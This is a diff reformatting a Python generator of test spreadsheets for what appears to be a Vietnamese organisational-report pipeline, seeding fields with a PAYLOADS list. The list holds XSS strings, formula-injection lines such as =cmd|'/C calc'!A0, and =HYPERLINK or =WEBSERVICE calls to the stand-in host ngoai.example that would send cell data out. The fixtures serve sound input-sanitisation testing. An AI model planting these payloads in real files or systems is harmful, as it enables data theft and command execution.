@@ -22,18 +22,18 @@ PAYLOADS = [
     "<ScRiPt src=//ngoai.example/a.js></sCrIpT>",
     "</script><script>window.hit=2</script>",
     "<img src=x onerror=window.hit=3>",
-    "\"><img src=x onerror=window.hit=4>",
+    '"><img src=x onerror=window.hit=4>',
     "' onmouseover='window.hit=5' autofocus onfocus='window.hit=5",
-    "\" onfocus=window.hit=6 autofocus tabindex=1 x=\"",
+    '" onfocus=window.hit=6 autofocus tabindex=1 x="',
     "<svg onload=window.hit=7>",
     "<svg><animate onbegin=window.hit=8 attributeName=x dur=1s>",
     "<iframe srcdoc='<script>parent.hit=9</script>'></iframe>",
-    "<a href=\"javascript:window.hit=10\">bấm vào đây</a>",
-    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">tệp</a>",
+    '<a href="javascript:window.hit=10">bấm vào đây</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD4=">tệp</a>',
     "<img src='http://ngoai.example/a.png'>",
     "<style>@import url(//ngoai.example/a.css)</style>",
-    "</style><p style=\"background:url(//ngoai.example/b)\">x</p>",
-    "<p style=\"font-size:99px; fill: red\">to</p>",
+    '</style><p style="background:url(//ngoai.example/b)">x</p>',
+    '<p style="font-size:99px; fill: red">to</p>',
     "<base href=//ngoai.example/><meta http-equiv=refresh content='0;url=//ngoai.example'>",
     "<form action=//ngoai.example><button>gửi</button></form>",
     "<math><mtext></p><img src=x onerror=window.hit=11></math>",
@@ -52,7 +52,7 @@ PAYLOADS = [
     "[bấm](javascript:window.hit=19) ![ảnh](http://ngoai.example/c.png) **đậm** # mục",
     "$\\href{javascript:window.hit=20}{x}$ \\(\\frac{1}{\\) $\\frac{$",
     "a $ b $ c",
-    "=HYPERLINK(\"http://ngoai.example/?\"&A1,\"bấm\")",
+    '=HYPERLINK("http://ngoai.example/?"&A1,"bấm")',
     "=cmd|'/C calc'!A0",
     "+cmd|'/C calc'!A0",
     "-2+3+cmd|'/C calc'!A0",
@@ -61,8 +61,8 @@ PAYLOADS = [
     "_x000D_=1+1",
     "＝1+1",
     "Do bận;=cmd|'/C calc'!A0;x",
-    "Do bận\n=WEBSERVICE(\"http://ngoai.example\")",
-    "\"\n=1+1,\"x\",\r\n'=1+1",
+    'Do bận\n=WEBSERVICE("http://ngoai.example")',
+    '"\n=1+1,"x",\r\n\'=1+1',
     "'=1+1",
     "#REF!",
     "_x0000_a_xD800_b_x001B_[2J_x0007__xFFFE_\u202exslx.cod\u202c\u2066\u200b",
@@ -74,9 +74,20 @@ PAYLOADS = [
 TARGETS = ["1a", "1b", "2a", "2b", "3", "4", "5", "6a", "6b", "7a", "7b"]
 SHORT = ("limitation", "cause", "remedy")
 COUNTS = {
-    "members": 20, "members_due_to_study": 20, "members_studied": 19, "cells": 4, "cells_meeting_good": 3, "cells_meeting_fair": 1,
-    "cells_thematic": 4, "cells_thematic_every_quarter": 4, "committee_members": 5, "committee_members_trained": 4,
-    "members_graded": 20, "members_excellent": 3, "members_good": 15, "members_satisfactory": 2,
+    "members": 20,
+    "members_due_to_study": 20,
+    "members_studied": 19,
+    "cells": 4,
+    "cells_meeting_good": 3,
+    "cells_meeting_fair": 1,
+    "cells_thematic": 4,
+    "cells_thematic_every_quarter": 4,
+    "committee_members": 5,
+    "committee_members_trained": 4,
+    "members_graded": 20,
+    "members_excellent": 3,
+    "members_good": 15,
+    "members_satisfactory": 2,
 }
 FLAGS = {"resolution_issued": "Có"}
 
@@ -106,15 +117,44 @@ def write_reference(folder: Path) -> Reference:
     ids = range(len(PAYLOADS))
     kinds, sectors = ("committee", "cell"), ("party", "state", "soe", "private")
     files = {
-        "organisations": ["organisation name kind sector founded dissolved"] + [
-            (identity(n), name(n), kinds[n % 2], sectors[n % 4], "", "") for n in ids],
-        "aliases": ["alias organisation"] + [(words(n, "còn gọi")[:300], identity(n)) for n in ids if n != 39],
-        "events": ["date event predecessor successor decision"] + [("2021-01-01", "founded", "", identity(n), words(n, "QĐ")[:300]) for n in ids],
+        "organisations": ["organisation name kind sector founded dissolved"]
+        + [(identity(n), name(n), kinds[n % 2], sectors[n % 4], "", "") for n in ids],
+        "aliases": ["alias organisation"]
+        + [(words(n, "còn gọi")[:300], identity(n)) for n in ids if n != 39],
+        "events": ["date event predecessor successor decision"]
+        + [("2021-01-01", "founded", "", identity(n), words(n, "QĐ")[:300]) for n in ids],
         "deadlines": ["year due", *((str(y), f"{y + 1}-01-15") for y in range(2021, 2026))],
-        "corrections": ["file sheet cell found value reason by on"] + [
-            (f"2022/{identity(n)}.xlsx", "Biểu 1", "C13", meant(PAYLOADS[n]), "20", words(n, "lý do"), words(n, "ai")[:200], "2023-01-02") for n in ids if n % 2],
-        "cause_reviews": ["organisation year target text decision by on settles note"] + [
-            (identity(n), "2021", "3", meant(words((n + 4) % len(PAYLOADS), f"cause 3 {identity(n)}")), "A1:subjective", words(n, "ai")[:200], "2022-02-01", "", words(n, "ghi chú")) for n in ids if n % 3 == 0],
+        "corrections": ["file sheet cell found value reason by on"]
+        + [
+            (
+                f"2022/{identity(n)}.xlsx",
+                "Biểu 1",
+                "C13",
+                meant(PAYLOADS[n]),
+                "20",
+                words(n, "lý do"),
+                words(n, "ai")[:200],
+                "2023-01-02",
+            )
+            for n in ids
+            if n % 2
+        ],
+        "cause_reviews": ["organisation year target text decision by on settles note"]
+        + [
+            (
+                identity(n),
+                "2021",
+                "3",
+                meant(words((n + 4) % len(PAYLOADS), f"cause 3 {identity(n)}")),
+                "A1:subjective",
+                words(n, "ai")[:200],
+                "2022-02-01",
+                "",
+                words(n, "ghi chú"),
+            )
+            for n in ids
+            if n % 3 == 0
+        ],
     }
     for file, (head, *rows) in files.items():
         with open(folder / f"{file}.csv", "w", encoding="utf-8", newline="") as out:
@@ -126,10 +166,24 @@ def write_raw(folder: Path, reference: Reference) -> Counter:
     """All workbooks; gives how often each kind of field carries each payload."""
     seen: Counter = Counter()
     for n, payload in enumerate(PAYLOADS):
-        for year, form, what in ((2021, "PL1-2021", _free), (2022, "PL1-2021", _figures), (2025, "PL1-2025", _structure)):
-            _return(folder / str(year) / f"{identity(n)}.xlsx", form, year, n, what, reference, seen)
+        for year, form, what in (
+            (2021, "PL1-2021", _free),
+            (2022, "PL1-2021", _figures),
+            (2025, "PL1-2025", _structure),
+        ):
+            _return(
+                folder / str(year) / f"{identity(n)}.xlsx", form, year, n, what, reference, seen
+            )
         _return(folder / "2025" / _file(payload), "PL1-2025", 2025, n, _all, reference, seen)
-        _return(folder / "2022" / "Lạ" / f"{identity(n)} {_file(payload)}", "PL1-2021", 2022, n, _stranger, reference, seen)
+        _return(
+            folder / "2022" / "Lạ" / f"{identity(n)} {_file(payload)}",
+            "PL1-2021",
+            2022,
+            n,
+            _stranger,
+            reference,
+            seen,
+        )
     _list(folder / "2023" / "Tong hop.xlsx", "TH-2023", 2023, reference, seen)
     for year in (2021, 2023, 2025):
         _list(folder / str(year) / "QD.xlsx", "QD-XL", year, reference, seen)
@@ -138,11 +192,17 @@ def write_raw(folder: Path, reference: Reference) -> Counter:
 
 def _file(payload: str) -> str:
     """The payload as the name of a file, as far as a file may be called so."""
-    plain = re.sub("_x([0-9A-F]{4})_", lambda m: chr(int(m[1], 16)) if m[1] not in ("0000", "D800") else "", payload)
+    plain = re.sub(
+        "_x([0-9A-F]{4})_",
+        lambda m: chr(int(m[1], 16)) if m[1] not in ("0000", "D800") else "",
+        payload,
+    )
     return plain.replace("/", "\u2215").encode()[:180].decode(errors="ignore") + ".xlsx"
 
 
-def _return(path: Path, form: str, year: int, n: int, what: Callable, reference: Reference, seen: Counter) -> None:
+def _return(
+    path: Path, form: str, year: int, n: int, what: Callable, reference: Reference, seen: Counter
+) -> None:
     spots = layout(form, year, reference, identity(n))
     for spot in spots:
         spot.value = _plain(spot, n)
@@ -151,7 +211,11 @@ def _return(path: Path, form: str, year: int, n: int, what: Callable, reference:
 
 def _list(path: Path, form: str, year: int, reference: Reference, seen: Counter) -> None:
     rows = {"shortfalls": [f"{identity(n)}/{t}" for n in range(len(PAYLOADS)) for t in ("3", "4")]}
-    spots = layout(form, year, reference, rows=None) if form == "QD-XL" else layout(form, year, reference, rows=_rows(form, reference, rows))
+    spots = (
+        layout(form, year, reference, rows=None)
+        if form == "QD-XL"
+        else layout(form, year, reference, rows=_rows(form, reference, rows))
+    )
 
     def what(spot) -> str | None:
         n = _owner(spot)
@@ -159,7 +223,11 @@ def _list(path: Path, form: str, year: int, reference: Reference, seen: Counter)
             return None
         if spot.type in ("remark", *SHORT):
             return words(n, f"{spot.type} {spot.id.partition('/')[2].partition(':')[0]}")
-        return PAYLOADS[n] if spot.type in ("count", "flag", "grade", "percent") and n % 3 == 0 else None
+        return (
+            PAYLOADS[n]
+            if spot.type in ("count", "flag", "grade", "percent") and n % 3 == 0
+            else None
+        )
 
     for spot in spots:
         spot.value = _plain(spot, _owner(spot))
@@ -167,9 +235,14 @@ def _list(path: Path, form: str, year: int, reference: Reference, seen: Counter)
 
 
 def _rows(form: str, reference: Reference, own: dict) -> dict:
-    lists = reference.forms[(reference.forms["form"] == form) & (reference.forms["kind"] == "block")]
+    lists = reference.forms[
+        (reference.forms["form"] == form) & (reference.forms["kind"] == "block")
+    ]
     everybody = list(reference.organisations["organisation"])
-    return {b["block"]: own["shortfalls"] if b["measure"] == "shortfall" else everybody for b in lists.to_dict("records")}
+    return {
+        b["block"]: own["shortfalls"] if b["measure"] == "shortfall" else everybody
+        for b in lists.to_dict("records")
+    }
 
 
 def _owner(spot) -> int | None:
@@ -182,32 +255,57 @@ def _plain(spot, n: int | None) -> object:
     if spot.role != "entry" or n is None:
         return spot.value
     return {
-        "count": lambda: COUNTS.get(spot.measure, 0), "flag": lambda: FLAGS.get(spot.measure, "Tốt"), "grade": lambda: "Hoàn thành tốt nhiệm vụ",
-        "organisation": lambda: name(n), "points": lambda: 10, "target": lambda: spot.value or "Chỉ tiêu 3", "sector": lambda: "Khác",
+        "count": lambda: COUNTS.get(spot.measure, 0),
+        "flag": lambda: FLAGS.get(spot.measure, "Tốt"),
+        "grade": lambda: "Hoàn thành tốt nhiệm vụ",
+        "organisation": lambda: name(n),
+        "points": lambda: 10,
+        "target": lambda: spot.value or "Chỉ tiêu 3",
+        "sector": lambda: "Khác",
     }.get(spot.type, lambda: spot.value)()
 
 
 def _free(spot, n: int) -> str | None:
     """Texts that a sender is free to word; each shortfall carries the next payload."""
-    if spot.role in ("letterhead", "subtitle", "signature") or spot.role == "entry" and spot.type in ("remark", "person"):
+    if (
+        spot.role in ("letterhead", "subtitle", "signature")
+        or spot.role == "entry"
+        and spot.type in ("remark", "person")
+    ):
         return words(n, f"{spot.type or spot.role} {spot.id.partition(':')[0]}")
     if spot.role == "entry" and spot.type in SHORT:
         target = spot.id.partition(":")[0]
-        return words((n + TARGETS.index(target)) % len(PAYLOADS), f"{spot.type} {target} {identity(n)}")
+        return words(
+            (n + TARGETS.index(target)) % len(PAYLOADS), f"{spot.type} {target} {identity(n)}"
+        )
     return f"{spot.value} {PAYLOADS[n][:300]}" if spot.role == "note" else None
 
 
 def _figures(spot, n: int) -> str | None:
     """Numbers, rates, yes and no."""
-    return PAYLOADS[n] if spot.type in ("count", "flag", "percent", "fraction", "points", "sum") and spot.role in ("entry", "derived", "total") else None
+    return (
+        PAYLOADS[n]
+        if spot.type in ("count", "flag", "percent", "fraction", "points", "sum")
+        and spot.role in ("entry", "derived", "total")
+        else None
+    )
 
 
 def _structure(spot, n: int) -> str | None:
     """Behind the printed words: labels of one organisation, titles of the next, headings of the third."""
     roles = (("label", "section"), ("title", "band", "number"), ("heading",))[n % 3]
-    if spot.role in roles and spot.value is not None or spot.type == "target" and spot.role == "entry":
+    if (
+        spot.role in roles
+        and spot.value is not None
+        or spot.type == "target"
+        and spot.role == "entry"
+    ):
         return f"{spot.value} {PAYLOADS[n][:300]}"
-    return words(n, f"2025 {spot.type} {spot.id.partition(':')[0]}") if spot.type in SHORT and spot.role == "entry" else None
+    return (
+        words(n, f"2025 {spot.type} {spot.id.partition(':')[0]}")
+        if spot.type in SHORT and spot.role == "entry"
+        else None
+    )
 
 
 def _stranger(spot, n: int) -> str | None:
@@ -226,7 +324,9 @@ def _save(path: Path, spots: list, what: Callable, seen: Counter, n: int | None)
     book.remove(book.active)
     for spot in spots:
         if spot.sheet not in sheets:
-            sheets[spot.sheet] = book.create_sheet(_sheet_name(payload, spot.sheet) if n is not None and n % 2 else spot.sheet)
+            sheets[spot.sheet] = book.create_sheet(
+                _sheet_name(payload, spot.sheet) if n is not None and n % 2 else spot.sheet
+            )
             seen["sheet name", n] += n is not None and n % 2
         told, cell = what(spot), sheets[spot.sheet].cell(spot.row, spot.column)
         cell.value = spot.value if told is None else told[:32_767]
@@ -241,7 +341,10 @@ def _save(path: Path, spots: list, what: Callable, seen: Counter, n: int | None)
         for field in ("title", "creator", "subject", "keywords", "description", "category"):
             setattr(book.properties, field, payload[:200])
         first = book.worksheets[0]
-        first["H2"].hyperlink, first["H2"].comment = "javascript:window.hit=90", Comment(payload[:900], payload[:50])
+        first["H2"].hyperlink, first["H2"].comment = (
+            "javascript:window.hit=90",
+            Comment(payload[:900], payload[:50]),
+        )
         first.oddFooter.left.text = first.oddHeader.left.text = payload[:60]
         for kind in ("property", "comment", "footer"):
             seen[kind, n] += 1
